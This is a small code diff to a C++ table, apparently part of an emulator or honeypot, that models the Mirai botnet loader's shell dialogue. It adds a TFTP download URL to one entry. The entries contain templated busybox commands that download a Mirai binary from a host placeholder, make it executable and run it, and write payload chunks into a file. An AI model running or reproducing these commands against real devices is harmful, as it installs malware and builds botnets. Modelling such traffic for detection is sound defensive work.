@@ -58,7 +58,7 @@ constexpr DialogueLine kMiraiLoader[] = {
      .group = 0, .options = in(0), .download_url = "http://{H}:80/bins/mirai.{A}"},
     {.text = "/bin/busybox tftp -g -l dvrHelper -r mirai.{A} {H}; /bin/busybox chmod 777 dvrHelper; "
              "/bin/busybox {T}",
-     .group = 0, .options = in(1)},
+     .group = 0, .options = in(1), .download_url = "tftp://{H}/mirai.{A}"},
     {.text = "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox {T}",
      .group = 0, .options = in(2)},
     {.text = "echo -ne '{C}' {R} upnp; /bin/busybox {T}", .repeat = Repeat::kPerChunk, .group = 0,
